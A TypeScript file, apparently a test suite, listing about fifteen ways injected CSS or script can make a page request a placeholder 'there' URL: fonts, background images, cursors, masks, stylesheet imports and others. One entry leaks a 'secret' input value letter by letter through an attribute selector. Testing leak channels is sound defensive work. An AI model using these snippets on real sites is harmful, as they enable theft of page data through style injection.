import { ways } from "../way.ts";

const style = (css: string) => `const s = document.createElement("style");
  s.textContent = \`${css}\`.replaceAll("THERE", there); document.head.append(s);
  document.body.insertAdjacentHTML("beforeend", "<ul class=leak><li>leak</li></ul>"); await sleep(200);`;

export const styles = ways({
  "an import of a style sheet": style("@import url(THERE/a.css);"),
  "a background": style(".leak { background-image: url(THERE) }"),
  "a background by attribute": `document.body.style.backgroundImage = "url(" + there + ")"; await sleep(150);`,
  "a set of images": style(".leak { background-image: image-set('THERE' 1x) }"),
  "a font": style("@font-face { font-family: leak; src: url(THERE/a.woff2) } .leak { font-family: leak }"),
  "a picture in a list": style(".leak li { list-style: url(THERE) }"),
  "a border": style(".leak { border: 9px solid; border-image: url(THERE) 1 }"),
  "made content": style(".leak::before { content: url(THERE) }"),
  "a mask": style(".leak { mask: url(THERE/a.svg#m) }"),
  "a filter": { code: style(".leak { filter: url(THERE/a.svg#f) }"), isHarmless: true },
  "a cursor": style(".leak { cursor: url(THERE), auto }"),
  "a form of text": style(".leak { shape-outside: url(THERE); float: left }"),
  "a sheet made by script": `const s = new CSSStyleSheet(); s.replaceSync("body { background: url(" + there + ") }");
    document.adoptedStyleSheets = [s]; await sleep(150);`,
  "a value that is read letter by letter": `const i = document.createElement("input"); i.setAttribute("value", "secret"); document.body.append(i);
    const s = document.createElement("style"); s.textContent = "input[value^=s] { background: url(" + there + "/s) }"; document.head.append(s); await sleep(150);`,
  "a variable": style(":root { --u: url(THERE) } .leak { background: var(--u) }"),
});
